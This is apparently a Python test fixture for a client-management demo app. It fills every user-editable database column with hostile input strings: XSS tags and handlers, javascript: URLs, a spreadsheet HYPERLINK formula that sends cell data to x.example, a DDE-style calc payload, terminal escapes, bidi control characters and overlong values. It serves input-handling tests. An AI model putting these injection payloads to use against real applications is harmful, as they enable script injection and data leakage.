"""The demo business with every text that people write put in by somebody who means harm."""
import pathlib
import os
import subprocess
import sys

SOURCE = pathlib.Path(os.environ["REGULARS_SOURCE"])
sys.path.insert(0, str(SOURCE / "tools/demo"))
import archive  # noqa: E402

MARK = "evil7"
LONG = "W" * 10000
TEXTS = [
    f'"><x-evil onload=alert(1)>{MARK}</x-evil><script>{MARK}()</script>',
    f"' onmouseover='{MARK}()' x-evil='",
    f"</title></textarea></option></select><x-evil>{MARK}",
    f"\u202e\u2066{MARK}\u200f\u200d" + "Z\u0334\u0322\u0351" * 12,
    f'=HYPERLINK("http://x.example/?"&A1,"{MARK}")',
    f"\x01\x08\x1b[31m{MARK}\x7f\x85\u2028",
    f"&lt;x-evil&gt;&amp;#x3c;{MARK} {{{{ 1 }}}} ${{1}} %s%n",
    f"\U0001F469\u200D\U0001F469\u200D\U0001F467{MARK}\U0001F4A5",
    f"]]><!--{MARK}--><![CDATA[<x-evil>]]>",
    f"+{MARK}|' /C calc'!A0", f"@{MARK}", f"-{MARK}+1", f"\t={MARK}",
    f"javascript:{MARK}()",
]
# Columns that a person writes; those of LONG_ONES hold a word of 10,000 letters too.
WRITTEN = {
    "workspace": ["name", "about"], "user_account": ["name"], "import": ["file_name"],
    "client": ["name", "source", "words", "likes", "talked_of", "reference"],
    "contact": ["name", "given", "family", "additional", "salutation"],
    "contact_point": ["value"],
    "client_order": ["number", "source", "service", "title", "details", "cancel_reason"],
    "tag": ["name"], "important_date": ["label"], "own_field": ["name"], "own_value": ["value"],
    "note": ["text"], "service": ["name"],
    "enquiry": ["name", "reach", "title", "details", "service", "source", "lost_reason"],
    "day_off": ["label"], "template": ["name", "subject", "body"],
}
UNIQUE = {("client", "reference"), ("client_order", "number"), ("client_order", "source")}
LONG_ONES = {("client", "words"), ("client_order", "details"), ("note", "text"),
             ("enquiry", "details"), ("template", "body")}


def made(content):
    """The archive with all of it replaced."""
    given, count = archive.Archive(content), 0
    for table, columns in WRITTEN.items():
        for row in given.rows[table]:
            for name in columns:
                if row[name] is None:
                    continue
                row[name] = TEXTS[count % len(TEXTS)]
                if (table, name) in UNIQUE:
                    row[name] += f" {count}"
                if (table, name) in LONG_ONES and count % 3 == 0:
                    row[name] += LONG
                count += 1
    return given.content()


def studio(program, folder, environment):
    """hostile.db in the folder."""
    def run(*words, **more):
        return subprocess.run(words, cwd=folder, env=environment, check=True, timeout=120,
                              stdout=subprocess.PIPE, **more).stdout

    def make(name, *words):
        made_by = [sys.executable, "-B", str(SOURCE / "tools/demo" / words[0])]
        (folder / name).write_bytes(run(*made_by, "--until", "2026-11-20", *words[1:]))

    make("contacts.csv", "make_contacts.py")
    make("orders.csv", "make_orders.py")
    run(program, "import", "contacts.csv", "--into", "sqlite:ground.db")
    run(program, "import", "orders.csv", "--as", "orders", "--into", "sqlite:ground.db")
    run(program, "export", "sqlite:ground.db", "ground.jsonl")
    make("business.jsonl", "make_business.py", "ground.jsonl")
    (folder / "hostile.jsonl").write_bytes(made((folder / "business.jsonl").read_bytes()))
    run(program, "restore", "hostile.jsonl", "sqlite:hostile.db")


if __name__ == "__main__":
    studio(os.environ["REGULARS"], pathlib.Path.cwd(), os.environ)
